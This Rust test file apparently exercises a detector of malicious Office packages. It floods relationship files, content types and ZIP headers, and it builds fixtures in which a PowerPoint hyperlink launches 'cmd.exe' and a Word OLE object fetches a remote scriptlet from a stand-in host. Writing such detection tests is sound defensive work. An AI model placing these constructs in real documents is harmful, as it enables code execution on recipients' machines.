//! Storms in the fabric of packages: relationships, content types and headers of archives.
//!
//! A payload stands in each: it is found, or there is a gap.

use std::time::Duration;

use ddetect::{GapKind, Kind, Report, Verdict};

use super::support::docx::{docx, simple};
use super::support::package::{Package, rels};
use super::support::payloads::STD;
use super::support::slides::{pptx, shape, slide};
use super::support::zipsmith::{Entry, Zip};
use super::support::{analyze, triples};
use super::{lean, turn, within};

/// 300,000 of what a storm is made of, or a twentieth.
const COUNT: usize = if cfg!(debug_assertions) {
    15_000
} else {
    300_000
};
/// 20 MiB of signatures, or an eightieth.
const SIGNATURES: usize = if cfg!(debug_assertions) {
    1 << 18
} else {
    20 << 20
};

/// The part of the package that many storms stand in.
const RELATIONS: &str = "word/_rels/document.xml.rels";

#[track_caller]
fn never_clean(what: &str, seconds: u64, bytes: &[u8]) -> Report {
    println!("{what}");
    lean(bytes);
    let report = within(Duration::from_secs(seconds), bytes);
    assert!(report.verdict() > Verdict::Clean, "{what}");
    report
}

/// A document with a payload and with so many of `piece`, by number, in the `.rels` of its main
/// part.
fn related(piece: impl Fn(usize) -> String) -> Package {
    let mut all = String::new();
    for number in 0..COUNT {
        all += &piece(number);
    }
    let xml = rels(&[]).replace("</Relationships>", &(all + "</Relationships>"));
    docx(&simple(STD)).part(RELATIONS, xml)
}

/// What a relationship holds in memory is many times what it takes in the file, where one letter
/// stands for a whole element.
#[test]
fn relationships() {
    let _turn = turn();
    type Piece = fn(usize) -> String;
    let pieces: [(&str, Piece); 6] = [
        ("empty", |_| "<Relationship/>".to_owned()),
        ("one", |_| {
            "<Relationship Id=\"a\" Type=\"x/image\" Target=\"a\"/>".to_owned()
        }),
        ("many", |n| {
            format!("<Relationship Id=\"r{n}\" Type=\"x/y\" Target=\"t{n}\"/>")
        }),
        ("outward", |n| {
            format!(
                "<Relationship Id=\"r{n}\" Type=\"x/hyperlink\" Target=\"http://x/{n}\" \
                 TargetMode=\"External\"/>"
            )
        }),
        ("outward, without ids", |n| {
            format!("<Relationship Target=\"//x/{n}\" TargetMode=\"External\"/>")
        }),
        ("all to one part", |n| {
            format!("<Relationship Id=\"r{n}\" Type=\"x/header\" Target=\"document.xml\"/>")
        }),
    ];
    for (what, piece) in pieces {
        let report = never_clean(what, 3, &related(piece).build());
        assert_eq!(triples(&report).len(), 1, "{what}");
    }
}

#[test]
fn content_types() {
    let _turn = turn();
    for piece in [
        "<Default Extension=\"{n}\" ContentType=\"a/b\"/>",
        "<Default Extension=\"{n}\"/>",
        "<Override PartName=\"/word/document.xml\" ContentType=\"a/{n}\"/>",
        "<Override PartName=\"/{n}\" ContentType=\"a/b\"/>",
    ] {
        let mut all = String::from("<Types>");
        for number in 0..COUNT {
            all += &piece.replace("{n}", &number.to_string());
        }
        all += "</Types>";
        let package = docx(&simple(STD)).part("[Content_Types].xml", all);
        let report = never_clean(piece, 3, &package.build());
        assert_eq!(triples(&report).len(), 1, "{piece}");
    }
}

/// A local header of an entry without data.
fn header(flags: u16, method: u16, packed: u32, name: &str) -> Vec<u8> {
    let mut bytes = b"PK\x03\x04\x14\0".to_vec();
    bytes.extend(flags.to_le_bytes());
    bytes.extend(method.to_le_bytes());
    bytes.extend([0; 8]);
    bytes.extend(packed.to_le_bytes());
    bytes.extend(packed.to_le_bytes());
    bytes.extend((name.len() as u16).to_le_bytes());
    bytes.extend([0, 0]);
    bytes.extend(name.as_bytes());
    bytes
}

/// Every four bytes could be an entry.
#[test]
fn signatures() {
    let _turn = turn();
    let archive = docx(&simple(STD)).build();
    let pieces: Vec<(&str, Vec<u8>)> = vec![
        ("local headers", b"PK\x03\x04".to_vec()),
        ("central entries", b"PK\x01\x02".to_vec()),
        ("end records", b"PK\x05\x06".to_vec()),
        ("wide end records", b"PK\x06\x06".to_vec()),
        ("descriptors", b"PK\x07\x08".to_vec()),
        ("headers without names", header(0, 0, 0, "")),
        ("headers of a letter", header(0, 0, 0, "a")),
        ("headers of pieces", header(0, 0, 0, "a/[0].piece")),
        ("deflated headers", header(0, 8, 0, "a")),
        (
            "deflated headers that reach on",
            header(0, 8, u32::MAX, "a"),
        ),
        ("headers with descriptors", header(8, 0, 0, "a")),
        ("encrypted headers", header(1, 8, 12, "a")),
        ("headers of a strange method", header(0, 77, 12, "a")),
        (
            "archives in archives",
            [header(0, 0, 30, "a"), header(0, 0, 0, "")].concat(),
        ),
    ];
    for (what, piece) in pieces {
        let storm = piece.repeat(SIGNATURES / piece.len());
        // Memory is shared between what stands in front and what stands behind.
        for (where_, bytes) in [
            ("in front", [storm.clone(), archive.clone()].concat()),
            ("behind", [archive.clone(), storm.clone()].concat()),
            ("alone", storm.clone()),
        ] {
            println!("{what}, {where_}");
            lean(&bytes);
            let report = within(Duration::from_secs(3), &bytes);
            // Descriptors and the like are no entries: an archive of nothing but these is none.
            assert!(
                report.verdict() > Verdict::Clean || where_ == "alone" && !what.contains("header"),
                "{what}, {where_}"
            );
        }
    }
}

/// Entries that the directory lists as well, with names as long as they can be.
#[test]
fn long_names() {
    let _turn = turn();
    let archive = docx(&simple(STD)).build();
    for length in [300, 1_000, 4_000, 65_000] {
        let names = |size: usize| (0..size / length).map(move |n| format!("{n:0length$}"));
        let mut zip = Zip::new();
        for name in names(SIGNATURES / 2) {
            zip = zip.entry(Entry::stored(name, "x"));
        }
        let zip = zip.build();
        let report = never_clean("long names", 3, &[zip, archive.clone()].concat());
        assert_eq!(triples(&report).len(), 1, "{length}");
        // In no directory, and each of them an archive that is broken.
        let strays: Vec<u8> = names(3 * SIGNATURES)
            .flat_map(|name| [header(0, 0, 30, &name), header(0, 8, 9, "")].concat())
            .collect();
        let report = never_clean(
            "long names of strays",
            10,
            &[strays, archive.clone()].concat(),
        );
        assert_eq!(triples(&report).len(), 1, "{length}");
    }
}

/// One relationship of a type as long as a tag may be, to a name that every member has.
#[test]
fn twins() {
    let _turn = turn();
    let mut zip = Zip::new();
    for _ in 0..SIGNATURES / 1_000 {
        zip = zip.entry(Entry::stored("a", "x"));
    }
    let kind = "x".repeat(3 << 20);
    let xml = rels(&[]).replace(
        "</Relationships>",
        &format!("<Relationship Type=\"{kind}\" Target=\"a\"/></Relationships>"),
    );
    zip = zip.entry(Entry::deflated("_rels/.rels", xml));
    let types: String = (0..SIGNATURES / 1_000)
        .map(|_| "<Override PartName=\"/a\" ContentType=\"a/b\"/>")
        .collect();
    zip = zip.entry(Entry::deflated(
        "[Content_Types].xml",
        format!("<Types>{types}</Types>"),
    ));
    for (name, bytes) in docx(&simple(STD)).parts() {
        zip = zip.entry(Entry::deflated(name, bytes));
    }
    never_clean("twins", 3, &zip.build());
}

/// A program takes any of the relationships that share an id, and an attacker chooses which.
#[test]
fn many_relationships_of_one_id() {
    let _turn = turn();
    for (count, payload) in [(17, 16), (40, 16), (40, 24), (40, 39), (1_000, 999)] {
        let targets: Vec<String> = (0..count)
            .map(|n| match n == payload {
                true => "cmd.exe".to_owned(),
                false => format!("https://example.com/{n}"),
            })
            .collect();
        let same: Vec<_> = targets
            .iter()
            .map(|target| ("r1", "hyperlink", target.as_str(), true))
            .collect();
        let what = format!("{payload} of {count}");
        let told = |report: &Report| {
            let found = report.findings().iter().any(|finding| {
                let target = finding.target.as_deref().unwrap_or_default();
                finding.kind == Kind::Execute && target == "cmd.exe"
            });
            let limit = report.gaps().iter().any(|gap| gap.kind == GapKind::Limit);
            assert!(found || limit, "{what}: {report:#?}");
            assert!(report.verdict() > Verdict::Clean, "{what}");
        };
        let click = "<a:hlinkClick r:id=\"r1\" action=\"ppaction://program\"/>";
        for shapes in [shape(click, ""), shape("", click)] {
            told(&analyze(&pptx(&slide(&shapes, ""), &same).build()));
        }
        let hover = "<a:hlinkMouseOver r:id=\"r1\" action=\"ppaction://program\"/>";
        told(&analyze(
            &pptx(&slide(&shape(hover, ""), ""), &same).build(),
        ));
    }
}

/// The same of a Word object that updates itself, and of a source of a mail merge.
#[test]
fn many_relationships_of_one_object() {
    let _turn = turn();
    let object = "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" \
                  xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
                  Type=\"Link\" ProgID=\"Package\" UpdateMode=\"Always\" r:id=\"r1\"/>\
                  </w:object></w:r></w:p>";
    let payload = "script:http://example.invalid/a.sct";
    let alone = docx(object).part(RELATIONS, rels(&[("r1", "oleObject", payload, true)]));
    let alone = analyze(&alone.build()).verdict();
    for (count, at) in [(17, 16), (40, 16), (40, 39)] {
        let targets: Vec<String> = (0..count)
            .map(|n| match n == at {
                true => payload.to_owned(),
                false => format!("https://example.com/{n}"),
            })
            .collect();
        let same: Vec<_> = targets
            .iter()
            .map(|target| ("r1", "oleObject", target.as_str(), true))
            .collect();
        let report = analyze(&docx(object).part(RELATIONS, rels(&same)).build());
        let found = report
            .findings()
            .iter()
            .any(|finding| finding.target.as_deref() == Some(payload));
        assert!(found, "{at} of {count}: {report:#?}");
        assert!(
            report.verdict() == alone || !report.complete(),
            "{at} of {count}"
        );
    }
}
